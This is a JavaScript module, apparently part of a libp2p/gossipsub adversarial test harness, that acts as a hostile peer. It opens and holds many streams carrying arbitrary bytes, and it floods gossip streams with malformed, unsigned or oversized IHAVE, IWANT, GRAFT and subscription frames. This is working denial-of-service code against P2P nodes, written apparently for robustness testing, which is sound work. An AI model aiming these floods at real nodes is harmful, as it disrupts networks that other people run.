// A peer that means no good: bytes on streams, as many as one likes, without a protocol's own restraint.
//
//   {"do": "streams", "address", "protocol", "hex", "times", "hold"?: true}   opens streams one after the other, writes the bytes on each, and
//                                                       holds them open, or ends them; {opened, failed: first error}
//   {"do": "flood", "address", "kind", "topic", "times"}   writes frames of gossip on one stream; {sent, failed}. "kind" is one of KINDS.

import { randomBytes } from 'node:crypto'

import { multiaddr } from '@multiformats/multiaddr'

import { framed, send, varint } from './frames.mjs'
import { fromHex } from './lines.mjs'

const GOSSIP = '/meshsub/1.1.0'

const field = (number, bytes) => Buffer.concat([varint(number * 8 + 2), varint(bytes.length), bytes])
const flag = (number, value) => Buffer.concat([varint(number * 8), varint(value)])
const text = value => Buffer.from(value)
/** RPC: 1 subscriptions (1 subscribe, 2 topic), 2 publish (2 data, 4 topic), 3 control (1 IHAVE, 2 IWANT, 3 GRAFT, 4 PRUNE). */
const KINDS = {
  garbage: () => randomBytes(512),
  // Of nobody, and signed by nobody.
  unsigned: topic => field(2, Buffer.concat([field(2, randomBytes(512)), field(4, text(topic))])),
  subscribe: () => Buffer.concat(Array.from({ length: 200 }, () =>
    field(1, Buffer.concat([flag(1, 1), field(2, text(`/${randomBytes(16).toString('hex')}`))])))),
  have: topic => field(3, field(1, Buffer.concat([field(1, text(topic)),
    ...Array.from({ length: 500 }, () => field(2, randomBytes(32)))]))),
  want: () => field(3, field(2, Buffer.concat(Array.from({ length: 500 }, () => field(1, randomBytes(32)))))),
  graft: topic => Buffer.concat(Array.from({ length: 50 }, () => field(3, field(3, field(1, text(topic))))))
}

export async function flood (node, { address, kind, topic, times }) {
  let sent = 0
  try {
    const stream = await node.dialProtocol(multiaddr(address), GOSSIP)
    for (; sent < times; sent++) {
      await send(stream, framed(KINDS[kind](topic)))
    }
    await stream.close()
  } catch (error) {
    return { sent, failed: String(error) }
  }
  return { sent }
}

const held = []

export async function streams (node, { address, protocol, hex, times, hold }) {
  let [opened, failed] = [0, null]
  for (let count = 0; count < times; count++) {
    try {
      const stream = await node.dialProtocol(multiaddr(address), protocol, { signal: AbortSignal.timeout(10_000) })
      opened += 1
      await send(stream, fromHex(hex))
      if (hold) {
        held.push(stream)
      } else {
        await stream.close()
      }
    } catch (error) {
      failed ??= String(error)
    }
  }
  return { opened, failed }
}
